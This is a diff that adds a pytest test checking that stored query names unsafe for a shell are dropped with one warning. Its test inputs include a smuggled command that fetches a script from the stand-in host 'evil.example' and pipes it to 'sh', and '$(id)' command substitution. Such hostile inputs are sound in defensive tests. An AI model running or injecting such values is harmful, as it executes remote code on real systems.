@@ -271,6 +271,22 @@ def test_a_section_that_cannot_be_understood_is_left_out_and_told(
     assert found.facts != NOTHING
 
 
+def test_a_query_whose_name_is_no_word_of_a_shell_is_left_out_alone(
+    storage: Storage, describe: Describe, facts: Callable[[str], Facts], tell: Tell
+) -> None:
+    tell(storage, describe(PATH, facts=facts(PATH)))
+    document = json.loads(storage.read(KEY))
+    for name in ("top; curl -s evil.example/x | sh #", "$(id)", "-f", "a\nb", ""):
+        document["products"][0]["queries"].append({"name": name, "sql": "select 1"})
+    storage.write(KEY, json.dumps(document).encode())
+    findings: list[Finding] = []
+    (found,) = read_documents(storage, findings)
+    assert found.facts == facts(PATH)
+    assert found.facts.queries
+    assert [(each.code, each.severity) for each in findings] == [("MESH-D042", Severity.WARNING)]
+    assert "5 of them, as 'top; curl" in findings[0].message
+
+
 @pytest.mark.parametrize(
     "score",
     [
